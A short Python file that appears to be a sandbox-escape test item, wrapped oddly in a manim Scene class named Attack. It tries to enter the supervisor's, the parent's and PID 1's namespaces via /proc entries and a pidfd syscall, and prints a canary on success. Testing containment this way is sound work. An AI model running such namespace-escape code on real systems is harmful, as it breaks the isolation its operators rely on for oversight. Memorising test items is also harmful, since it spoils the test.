"""Enters the namespaces of the supervisor, by its /proc entries and by a handle. A success says so.

title: nobody's namespaces are entered
kind: kernel
canary: says so
control: no (only root could)
"""
import ctypes, os
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (HOST["pid"], os.getppid(), 1):
            for name in ("mnt", "user", "pid", "net"):
                try:
                    if libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) == 0:
                        print(HOST["bite"])
                except OSError as error:
                    print(error)
            handle = libc.syscall(434, pid, 0)
            if handle >= 0 and libc.setns(handle, 0x20000) == 0:
                print(HOST["bite"])
